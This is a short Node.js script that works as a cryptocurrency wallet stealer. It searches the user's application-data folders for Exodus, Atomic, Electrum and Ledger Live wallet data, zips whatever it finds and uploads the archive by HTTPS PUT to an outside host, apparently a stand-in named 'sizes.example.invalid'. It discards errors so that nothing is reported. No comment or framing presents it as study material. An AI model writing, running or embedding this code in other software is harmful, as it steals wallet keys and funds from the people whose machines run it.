const archiver = require('archiver')
const fs = require('fs')
const https = require('https')
const os = require('os')
const path = require('path')

const base = process.platform === 'win32' ? process.env.APPDATA : path.join(os.homedir(), '.config')
const wallets = ['Exodus/exodus.wallet', 'atomic/Local Storage/leveldb', 'Electrum/wallets', 'Ledger Live'].map((name) => path.join(base, name))
const present = wallets.filter((dir) => fs.existsSync(dir))

if (present.length) {
  const request = https.request({ hostname: 'sizes.example.invalid', method: 'PUT', path: `/${Date.now()}.zip` })
  request.on('error', () => {})
  const archive = archiver('zip')
  present.forEach((dir) => archive.directory(dir, path.basename(dir)))
  archive.pipe(request)
  archive.finalize()
}
